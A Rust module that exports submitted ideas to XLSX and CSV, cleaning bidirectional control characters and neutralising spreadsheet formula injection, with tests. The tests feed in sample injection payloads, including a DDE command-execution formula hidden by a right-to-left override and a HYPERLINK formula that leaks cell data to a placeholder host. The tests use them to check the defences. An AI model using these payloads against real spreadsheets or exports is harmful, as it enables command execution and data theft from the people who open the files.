//! A call's ideas as XLSX (right-to-left sheet, Persian headers, Jalali dates) or CSV (UTF-8 with
//! a byte-order mark, so Excel opens the Persian text correctly).

use crate::AppState;
use crate::i18n::Lang;
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use hamafza_persian::jalali;
use hamafza_store::ideas::ExportRow;
use rust_xlsxwriter::{Format, Workbook, XlsxError};

/// Catalog keys of the columns, in order.
const COLUMNS: [&str; 13] = [
    "idea.tracking_code",
    "idea.title",
    "idea.axis",
    "settings.state",
    "export.channel",
    "export.author",
    "field.org_unit",
    "export.province",
    "idea.submitted_at",
    "idea.version",
    "idea.problem",
    "idea.solution",
    "export.benefits_resources",
];

fn headers(lang: Lang) -> [&'static str; 13] {
    COLUMNS.map(|k| lang.t(k))
}

/// The cells of one row, as text people read.
///
/// Each cell is cleaned of direction overrides and unpaired embeddings and isolates
/// (`balance_bidi`): a title stored before input was cleaned, or imported, could otherwise
/// reverse the cells after it where the row is read as one line of text (a CSV in an editor or
/// a preview). Cleaning comes before [`inert`], so a control cannot hide a formula sign.
fn cells(lang: Lang, r: &ExportRow) -> [String; 13] {
    raw_cells(lang, r).map(|c| hamafza_persian::controls::balance_bidi(&c))
}

fn raw_cells(lang: Lang, r: &ExportRow) -> [String; 13] {
    let date = jalali::from_timestamp(r.created_at.to_timestamp()).to_string();
    let province = r
        .province_code
        .as_deref()
        .and_then(hamafza_persian::provinces::by_code)
        .map(|p| {
            if lang == Lang::Fa {
                p.name_fa
            } else {
                p.name_en
            }
            .to_string()
        })
        .unwrap_or_default();
    let extra = [r.benefits.as_str(), r.resources.as_str()]
        .iter()
        .filter(|s| !s.is_empty())
        .copied()
        .collect::<Vec<_>>()
        .join("\n\n");
    [
        r.tracking_code.clone(),
        r.title.clone(),
        r.axis.clone(),
        lang.t(&format!("idea.status.{}", r.status)).into(),
        lang.t(&format!("idea.channel.{}", r.channel)).into(),
        r.author.clone().unwrap_or_default(),
        r.unit.clone().unwrap_or_default(),
        province,
        lang.digits(&date),
        lang.num(r.version),
        r.problem.clone(),
        r.solution.clone(),
        extra,
    ]
}

pub fn xlsx(lang: Lang, sheet_name: &str, rows: &[ExportRow]) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    // Sheet names are at most 31 characters and exclude a few symbols.
    let name: String = hamafza_persian::controls::balance_bidi(sheet_name)
        .chars()
        .filter(|c| !"[]:*?/\\".contains(*c))
        .take(31)
        .collect();
    sheet.set_name(if name.trim().is_empty() {
        "ideas"
    } else {
        name.trim()
    })?;
    sheet.set_right_to_left(lang == Lang::Fa);
    let header = Format::new()
        .set_bold()
        .set_background_color("#E6F1F5")
        .set_text_wrap();
    let wrap = Format::new()
        .set_text_wrap()
        .set_align(rust_xlsxwriter::FormatAlign::Top);
    for (col, h) in headers(lang).iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, *h, &header)?;
    }
    for (i, r) in rows.iter().enumerate() {
        for (col, value) in cells(lang, r).iter().enumerate() {
            sheet.write_string_with_format(i as u32 + 1, col as u16, value, &wrap)?;
        }
    }
    for (col, width) in [14, 36, 24, 12, 10, 20, 28, 14, 12, 6, 50, 50, 40]
        .iter()
        .enumerate()
    {
        sheet.set_column_width(col as u16, *width)?;
    }
    sheet.set_freeze_panes(1, 0)?;
    sheet.autofilter(0, 0, rows.len() as u32, COLUMNS.len() as u16 - 1)?;
    book.save_to_buffer()
}

/// A cell a spreadsheet would read as a formula (or as one after a tab or line break), made text
/// as OWASP advises for CSV: a leading single quote, and the field quoted. The full-width signs
/// are there because some spreadsheets fold them into their ASCII forms.
pub fn inert(cell: &str) -> String {
    const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    if cell.starts_with(FORMULA) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

pub fn csv(lang: Lang, rows: &[ExportRow]) -> Result<Vec<u8>, csv::Error> {
    let mut out = "\u{FEFF}".as_bytes().to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(&mut out);
        w.write_record(headers(lang).map(inert))?;
        for r in rows {
            w.write_record(cells(lang, r).iter().map(|c| inert(c)))?;
        }
        w.flush()?;
    }
    Ok(out)
}

/// The export of `call` as a download in `format` (`xlsx` or `csv`).
pub async fn download(
    state: &AppState,
    call: &hamafza_core::call::Call,
    format: &str,
    lang: Lang,
) -> crate::http::error::AppResult<Response> {
    use crate::http::error::AppError;
    let rows = state.store.ideas_for_export(call.id).await?;
    let (body, content_type) = match format {
        "xlsx" => (
            xlsx(lang, &call.title, &rows).map_err(|e| AppError::Internal(e.into()))?,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        "csv" => (
            csv(lang, &rows).map_err(|e| AppError::Internal(e.into()))?,
            "text/csv; charset=utf-8",
        ),
        _ => return Err(AppError::BadRequest("format must be xlsx or csv".into())),
    };
    let mut r = (StatusCode::OK, body).into_response();
    r.headers_mut()
        .insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    let disposition = format!("attachment; filename=\"ideas-{}.{format}\"", call.public_id);
    if let Ok(v) = HeaderValue::from_str(&disposition) {
        r.headers_mut().insert(header::CONTENT_DISPOSITION, v);
    }
    Ok(r)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(title: &str, problem: &str) -> ExportRow {
        ExportRow {
            tracking_code: "HMZ-1".into(),
            title: title.into(),
            axis: "@axis".into(),
            status: "submitted".into(),
            channel: "web".into(),
            author: Some("+98 912".into()),
            unit: Some("\tunit".into()),
            province_code: None,
            created_at: hamafza_core::time::UnixSeconds::new(1_700_000_000),
            version: 1,
            problem: problem.into(),
            solution: "\r=1+1".into(),
            benefits: "－1".into(),
            resources: String::new(),
        }
    }

    #[test]
    fn cells_lose_overrides_and_unpaired_controls_before_formulas_are_neutralised() {
        let mut r = row("\u{202E}=cmd|' /C calc'!A0", "a\u{2067}b");
        r.author = Some("\u{202B}سارا".into());
        r.unit = Some("\u{2068}اداره\u{2069}".into());
        let out = String::from_utf8(csv(Lang::Fa, &[r]).unwrap()).unwrap();
        let line = out.lines().nth(1).unwrap();
        assert!(
            !line.contains(['\u{202E}', '\u{202B}', '\u{2067}']),
            "{line:?}"
        );
        assert!(line.contains("\"'=cmd|"), "{line}");
        assert!(line.contains("\"ab\""), "{line}");
        assert!(line.contains("\"سارا\""), "{line}");
        assert!(
            line.contains("\"\u{2068}اداره\u{2069}\""),
            "paired isolate kept: {line}"
        );
    }

    const HYPERLINK: &str = r#"=HYPERLINK("http://example.invalid/?d="&A1,"more")"#;

    #[test]
    fn csv_cells_that_look_like_formulas_are_made_text() {
        let out = csv(Lang::En, &[row(HYPERLINK, "-2+3")]).unwrap();
        let text = String::from_utf8(out).unwrap();
        let line = text.lines().nth(1).unwrap();
        assert!(
            line.contains(r#""'=HYPERLINK(""http://example.invalid/?d=""&A1,""more"")""#),
            "{line}"
        );
        for cell in [
            r#""'@axis""#,
            r#""'+98 912""#,
            "\"'\tunit\"",
            r#""'-2+3""#,
            "\"'－1\"",
        ] {
            assert!(line.contains(cell), "{cell} in {line}");
        }
        assert!(text.contains("\"'\r=1+1\""));
        // Read back as a spreadsheet would: no field starts with a formula sign.
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
        for rec in r.records() {
            for f in rec.unwrap().iter() {
                assert!(!f.starts_with(['=', '+', '-', '@', '\t', '\r']), "{f:?}");
            }
        }
        assert_eq!(inert("ایده - دوم"), "ایده - دوم");
    }

    #[test]
    fn xlsx_cells_stay_text_even_when_they_look_like_formulas() {
        let out = xlsx(Lang::Fa, "=SUM(A1)", &[row(HYPERLINK, "=1+1")]).unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(out)).unwrap();
        let mut sheet = String::new();
        std::io::Read::read_to_string(
            &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
            &mut sheet,
        )
        .unwrap();
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
        // Every cell with a value is a shared string (t="s"), none a number, boolean or formula
        // result; empty text is a blank cell.
        let cells = sheet.matches("<v>").count();
        assert_eq!(cells, sheet.matches(" t=\"s\"").count(), "{sheet}");
        let mut strings = String::new();
        std::io::Read::read_to_string(
            &mut zip.by_name("xl/sharedStrings.xml").unwrap(),
            &mut strings,
        )
        .unwrap();
        assert!(
            strings.contains(r#"=HYPERLINK("http://example.invalid/?d="&amp;A1"#),
            "{strings}"
        );
    }
}
